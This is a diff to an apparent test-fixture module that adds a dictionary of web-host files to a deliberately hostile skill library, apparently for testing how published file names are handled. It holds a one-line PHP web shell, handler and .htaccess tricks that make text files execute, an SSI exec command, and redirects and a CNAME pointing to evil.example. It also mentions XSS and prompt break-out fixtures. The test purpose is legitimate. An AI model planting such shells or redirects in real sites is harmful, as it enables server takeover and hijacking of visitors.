@@ -204,6 +204,55 @@ def amplifier_skills(lib: Path, size: int) -> list[Path]:
     return folders
 
 
+HOST_FILES: dict[str, str] = {
+    ".htaccess": "AddHandler cgi-script .txt\nOptions +ExecCGI\n",
+    ".htpasswd": "admin:$apr1$x$y\n",
+    "web.config": "<configuration><system.webServer><handlers><add name=\"x\" path=\"*.txt\" "
+                  "verb=\"*\" modules=\"CgiModule\"/></handlers></system.webServer>"
+                  "</configuration>\n",
+    ".user.ini": "auto_prepend_file=references/notes.txt\n",
+    "php.ini": "allow_url_include=On\n",
+    "_headers": "/*\n  Content-Security-Policy: default-src *\n",
+    "_redirects": "/* https://evil.example/:splat 301\n",
+    "_routes.json": '{"version": 1, "include": ["/*"]}\n',
+    "_worker.js": "export default { fetch() { return new Response('x') } }\n",
+    "CNAME": "evil.example\n",
+    ".nojekyll": "",
+    "netlify.toml": "[[redirects]]\nfrom = \"/*\"\nto = \"https://evil.example\"\n",
+    "vercel.json": '{"redirects": [{"source": "/(.*)", "destination": "https://evil.example"}]}\n',
+    "staticwebapp.config.json": '{"routes": [{"route": "/*", "redirect": "https://evil.example"}]}'
+                                "\n",
+    "firebase.json": '{"hosting": {"redirects": []}}\n',
+    "scripts/shell.php": "<?php system($_GET['c']); ?>\n",
+    "scripts/shell.php.txt": "<?php echo 'Apache runs me too: AddHandler maps .php anywhere'; ?>\n",
+    "scripts/page.PHTML": "<?php phpinfo(); ?>\n",
+    "scripts/old.php5": "<?php phpinfo(); ?>\n",
+    "scripts/run.asp": "<% Response.Write(\"x\") %>\n",
+    "scripts/run.aspx": "<%@ Page Language=\"C#\" %>\n",
+    "scripts/run.asp;.jpg": "<% Response.Write(\"IIS 6\") %>\n",
+    "scripts/page.jsp": "<% out.println(\"x\"); %>\n",
+    "scripts/run.cgi": "#!/bin/sh\necho Content-Type: text/plain\n",
+    "scripts/run.pl": "#!/usr/bin/perl\nprint \"x\";\n",
+    "scripts/page.shtml": "<!--#exec cmd=\"id\" -->\n",
+    "scripts/trailing.php.": "<?php phpinfo(); ?>\n",
+    "references/.well-known/security.txt": "Contact: mailto:evil@example.com\n",
+    "references/notes.txt": "Plain notes.\n",
+}
+"""Files a web host acts on by their name (issue 23, attack 9), with what each would do."""
+
+
+def host_file_skill(lib: Path) -> Path:
+    """A valid skill holding each of :data:`HOST_FILES`, linked from its body."""
+    body = "".join(f"- [{name}]({name.replace(' ', '%20').replace(';', '%3B')})\n"
+                   for name in HOST_FILES)
+    folder = _skill(lib, "host-files", "name: host-files\ndescription: Files web hosts act on. "
+                    "Use when testing published names.", body)
+    for name, text in HOST_FILES.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
 def _skill(root: Path, folder: str, frontmatter: str, body: str = "Body.\n") -> Path:
     skill_dir = root / folder
     skill_dir.mkdir(parents=True, exist_ok=True)
@@ -325,6 +374,7 @@ def make_hostile_library(base: Path, *, big: bool = True) -> Path:
         encoding="utf-8")
     (weird_files / "assets" / "evil.js").write_text(f"alert('{XSS_MARK}')\n", encoding="utf-8")
     (weird_files / "assets" / "binary.bin").write_bytes(bytes(range(256)))
+    host_file_skill(lib)
 
     # 4. Prompt break-outs through name, description, metadata.
     _skill(lib, "prompt-breakout", (
